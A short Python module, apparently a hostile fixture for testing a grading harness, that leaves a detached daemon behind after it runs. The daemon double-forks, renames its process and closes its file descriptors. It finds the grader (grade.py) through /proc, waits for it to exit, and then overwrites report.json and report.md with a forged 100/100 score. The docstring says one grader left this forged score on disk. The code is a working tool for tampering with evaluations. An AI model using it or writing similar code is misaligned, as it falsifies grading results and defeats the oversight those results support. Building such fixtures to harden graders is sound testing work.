"""Leaves a daemon behind that rewrites the grader's report after the grader has exited.

It finds the grader through /proc (an ancestor whose command line runs grade.py,
its working folder and its --out), waits for it to exit, then writes a 100/100
report.json and report.md. The original grader printed the honest total and left
this 100/100 on disk.
"""

import ctypes
import json
import os
import time


def _grader() -> tuple[int, str] | None:
    pid = os.getppid()
    for _ in range(12):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
            cwd = os.readlink(f"/proc/{pid}/cwd")
            stat = open(f"/proc/{pid}/stat").read()
        except OSError:
            return None
        if any(a.endswith("grade.py") for a in argv):
            out = argv[argv.index("--out") + 1] if "--out" in argv else "grade-report"
            return pid, os.path.join(cwd, out)
        pid = int(stat.rpartition(")")[2].split()[1])
        if pid <= 1:
            return None
    return None


def _daemon() -> None:
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    ctypes.CDLL(None).prctl(15, b"swattn-hostile", 0, 0, 0)  # PR_SET_NAME: the tests look for survivors
    for fd in range(0, 64):
        try:
            os.close(fd)
        except OSError:
            pass
    found = _grader()
    if found:
        pid, out = found
        while os.path.exists(f"/proc/{pid}"):
            time.sleep(0.1)
        report = {"submission": "forged", "lines": [], "points": 100, "max_points": 100}
        try:
            with open(os.path.join(out, "report.json"), "w") as f:
                json.dump(report, f)
            with open(os.path.join(out, "report.md"), "w") as f:
                f.write("# Grade\n\n**Total: 100 / 100**\n")
        except OSError:
            pass
    else:
        time.sleep(60)  # nothing to rewrite: outlive the grader anyway
    os._exit(0)


_daemon()
